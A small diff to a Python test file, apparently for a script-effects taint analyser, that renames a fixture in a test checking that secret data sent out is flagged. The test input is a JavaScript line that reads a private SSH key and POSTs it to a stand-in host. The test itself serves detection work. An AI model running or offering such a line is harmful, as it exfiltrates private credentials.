@@ -224,7 +224,7 @@ def test_benign_scripts_have_no_effects(effects, language, source):
     assert effects(language, source) == []
 
 
-def test_secrets_that_are_sent(told):
-    sink = told("javascript", "fetch('http://h/', {method: 'POST', body: fs.readFileSync('/home/dev/.ssh/id_rsa')})")
+def test_secrets_that_are_sent(read_language):
+    sink = read_language("javascript", "fetch('http://h/', {method: 'POST', body: fs.readFileSync('/home/dev/.ssh/id_rsa')})")
     at = sink.said.index(("run", "curl", "--data-binary", "?", "http://h/"))
     assert sink.taints[at] & Taint.SECRET
